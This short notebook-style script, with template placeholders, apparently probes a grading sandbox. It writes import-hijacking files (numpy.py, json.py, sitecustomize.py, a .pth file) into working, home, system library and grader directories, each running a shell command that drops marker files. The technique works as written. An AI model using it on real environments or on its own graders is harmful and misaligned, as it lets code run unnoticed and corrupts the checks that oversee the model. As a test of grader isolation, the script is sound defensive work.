# %%
import os, sysconfig

code = "import os; os.system('touch /tmp/@MARK@ @OUT@/@MARK@')\n"
for folder in (".", os.environ["GRADER_EVIDENCE"], os.path.expanduser("~"), "/tmp", "/opt/grader", "/opt/grader/box",
               sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), "@GRADER@", "@GRADER@/grader"):
    for name in ("numpy.py", "json.py", "sitecustomize.py", "usercustomize.py", "zmq.py", "protocol.py", "@MARK@.pth"):
        try:
            open(f"{folder}/{name}", "x").write(code)
            print("wrote", folder, name)
        except OSError:
            pass

# %%
# !python -c "import numpy, json" ; cd /tmp && python -c "import json"
